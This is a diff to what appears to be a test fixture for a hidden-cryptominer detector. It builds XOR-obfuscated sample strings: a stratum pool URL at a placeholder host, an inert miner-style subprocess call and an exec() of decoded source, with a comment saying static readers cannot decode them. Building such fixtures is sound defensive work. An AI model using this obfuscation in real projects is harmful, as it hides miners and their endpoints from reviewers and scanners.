@@ -6,7 +6,7 @@ from conftest import MINER
 _SECRET = [c ^ 7 for c in b"stratum+tcp://pool.example.net:3333"]  # XOR: no static reader decodes it
 HIDDEN_MINER = f"""import subprocess
 url = bytes(c ^ 7 for c in {_SECRET!r}).decode()
-subprocess.run(['true', '-o', url, '-u', 'W', '--donate-level', '1'])
+subprocess.run(['true', '-o', url, '-u', 'W', '--threads', '1'])
 """
 _SOURCE = [c ^ 7 for c in b"pool = 'stratum+tcp://pool.example.net:3333'"]
 HIDDEN_EXEC = f"exec(bytes(c ^ 7 for c in {_SOURCE!r}).decode())"
